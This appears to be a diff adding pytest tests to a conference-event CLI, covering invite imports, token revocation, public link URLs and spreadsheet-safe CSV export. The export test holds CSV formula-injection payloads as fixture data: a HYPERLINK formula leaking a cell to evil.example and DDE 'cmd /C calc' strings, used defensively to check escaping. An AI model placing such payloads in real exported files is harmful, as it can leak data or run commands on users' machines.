@@ -17,12 +17,15 @@ from support import bearer, eventually, issue, services_of
 HYBRIDCON = [sys.executable, "-m", "hybridcon.cli"]
 
 
-def run_cli(settings, *args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
+def run_cli(
+    settings, *args: str, check: bool = True, env: dict[str, str] | None = None
+) -> subprocess.CompletedProcess[str]:
     env = {
         **os.environ,
         "HYBRIDCON_DATA_DIR": str(settings.data_dir),
         "HYBRIDCON_DATABASE_URL": settings.database_url,
         "HYBRIDCON_PROGRAMME": str(settings.programme),
+        **(env or {}),
     }
     result = subprocess.run(
         [*HYBRIDCON, *args],
@@ -118,7 +121,13 @@ def test_cli_bad_input_names_the_problem_and_exits_2(settings, tmp_path):
     )
     assert result.returncode == 2 and "not a duration" in result.stderr
     result = run_cli(settings, "token", "issue", "--role", "viewer", "--ttl", "30d", check=False)
-    assert result.returncode == 2 and "maximum" in result.stderr
+    assert result.returncode == 2
+    assert "token lifetime 30 days is longer than the maximum 2 days" in result.stderr
+    result = run_cli(
+        settings, "token", "issue", "--role", "viewer", "--scope", "stage:mainstage", check=False
+    )
+    assert result.returncode == 2
+    assert "stage 'mainstage', which is not in the programme" in result.stderr
     bad = tmp_path / "bad.toml"
     bad.write_text("[event]\nid = 'x'\n")
     result = run_cli(settings, "--help", check=False)
@@ -181,10 +190,8 @@ def test_invites_import_refuses_a_bad_file_whole(settings, tmp_path):
     # Nothing was half-written: the good rows before the bad one are not there either.
     good = tmp_path / "good.csv"
     good.write_text("ticket_id,name\nT-1,Ann\n", encoding="utf-8")
-    result = run_cli(settings, "invites", "import", str(good))
+    result = run_cli(settings, "invites", "import", str(good), "--valid-until", "2099-01-01")
     assert result.stdout.startswith("1 invites created")
-    # The 2022 programme has ended: the default validity has passed, and the CLI says so.
-    assert "has passed" in result.stderr
     missing = run_cli(settings, "invites", "import", str(tmp_path / "nope.csv"), check=False)
     assert missing.returncode == 2 and "cannot read" in missing.stderr
     binary = tmp_path / "latin1.csv"
@@ -208,3 +215,105 @@ def test_a_bad_programme_stops_serve_with_a_clear_message(settings, tmp_path):
     assert result.returncode == 2
     assert "session 'a' ends" in result.stderr
     assert Path(bad).name in result.stderr
+
+
+def test_invites_import_refuses_a_validity_that_has_passed(settings, tmp_path):
+    export = tmp_path / "tickets.csv"
+    export.write_text("ticket_id,name\nT-1,Ann\nT-2,Bob\n", encoding="utf-8")
+    # The 2022 programme has ended: the default validity (its end plus two days) has passed.
+    result = run_cli(settings, "invites", "import", str(export), check=False)
+    assert result.returncode == 2
+    assert "would expire at 2022-05-07" in result.stderr
+    assert "which has passed; give --valid-until a later date" in result.stderr
+    assert "nothing was imported" in result.stderr
+    result = run_cli(
+        settings, "invites", "import", str(export), "--valid-until", "2023-01-01", check=False
+    )
+    assert result.returncode == 2 and "(--valid-until), which has passed" in result.stderr
+    # Nothing was written by either: a valid import creates both.
+    result = run_cli(settings, "invites", "import", str(export), "--valid-until", "2099-01-01")
+    assert result.stdout.startswith("2 invites created, 0 already present")
+
+
+def test_invites_import_refuses_scopes_outside_the_programme(settings, tmp_path):
+    export = tmp_path / "tickets.csv"
+    export.write_text(
+        "ticket_id,name,scopes\nT-1,Ann,stage:plenary\nT-2,Bob,stage:mainstage\n",
+        encoding="utf-8",
+    )
+    result = run_cli(
+        settings, "invites", "import", str(export), "--valid-until", "2099-01-01", check=False
+    )
+    assert result.returncode == 2
+    assert "line 3: scope 'stage:mainstage' names stage 'mainstage'" in result.stderr
+
+
+def test_invites_export_is_safe_to_open_in_a_spreadsheet(settings, tmp_path):
+    export = tmp_path / "tickets.csv"
+    rows = [
+        ("T-1", '=HYPERLINK("https://evil.example/?leak="&A1;"Klik")', "ann@example.org"),
+        ("T-2", "+cmd|' /C calc'!A0", "=cmd|' /C calc'!A0@evil.example"),
+        ("T-3", "@SUM(1+1)*cmd|' /C calc'!A0", ""),
+        ("-T4", "-2+3", "@evil@example.org"),
+        ("T-5", "Chloé Maes", "chloe@example.org"),
+    ]
+    out = io.StringIO()
+    writer = csv.writer(out)
+    writer.writerow(["ticket_id", "name", "email"])
+    writer.writerows(rows)
+    export.write_text(out.getvalue(), encoding="utf-8")
+    run_cli(settings, "invites", "import", str(export), "--valid-until", "2099-01-01")
+    links = tmp_path / "links.csv"
+    run_cli(
+        settings, "invites", "export", "--out", str(links), "--base-url", "https://live.example.org"
+    )
+    exported = {r["name"].lstrip("'"): r for r in csv.DictReader(io.StringIO(links.read_text()))}
+    for ticket_id, name, email in rows:
+        row = exported[name]
+        for cell, original in (
+            (row["ticket_id"], ticket_id),
+            (row["name"], name),
+            (row["email"], email),
+        ):
+            assert cell in {original, "'" + original}
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert exported["Chloé Maes"]["name"] == "Chloé Maes"  # ordinary text is left alone
+    assert exported["-2+3"]["ticket_id"] == "'-T4"
+
+
+def test_invites_export_links_follow_the_public_url_and_carry_the_code_in_the_fragment(
+    settings, tmp_path
+):
+    export = tmp_path / "tickets.csv"
+    export.write_text("ticket_id,name\nT-1,Ann\n", encoding="utf-8")
+    run_cli(settings, "invites", "import", str(export), "--valid-until", "2099-01-01")
+    # Without a public address the links would point at this machine's localhost:8080.
+    result = run_cli(settings, "invites", "export", check=False)
+    assert result.returncode == 2
+    assert "set HYBRIDCON_PUBLIC_URL" in result.stderr and "--base-url" in result.stderr
+    out = run_cli(
+        settings,
+        "invites",
+        "export",
+        env={"HYBRIDCON_PUBLIC_URL": "https://live.example.org/swc/"},
+    ).stdout
+    (row,) = list(csv.DictReader(io.StringIO(out)))
+    assert row["link"] == f"https://live.example.org/swc/join#code={row['code']}"
+    assert "?" not in row["link"]
+
+
+async def test_token_revoke_says_when_it_is_not_given_a_token_id(client, settings):
+    result = run_cli(settings, "token", "revoke", "somebody", check=False)
+    assert result.returncode == 2
+    assert "'somebody' is not a token id" in result.stderr
+    assert "nothing was revoked" in result.stderr
+    revocations = await (
+        await client.get("/api/v1/revocations", headers=bearer(issue(client, Role.ORGANISER)))
+    ).json()
+    assert revocations["revocations"] == []
+    # A whole token is taken for its jti.
+    token = issue(client, Role.VIEWER)
+    jti = jwt.decode(token, options={"verify_signature": False})["jti"]
+    result = run_cli(settings, "token", "revoke", token)
+    assert result.stdout.strip() == f"revoked {jti}"
+    assert run_cli(settings, "token", "revoke", jti).stdout.strip() == f"{jti} was already revoked"
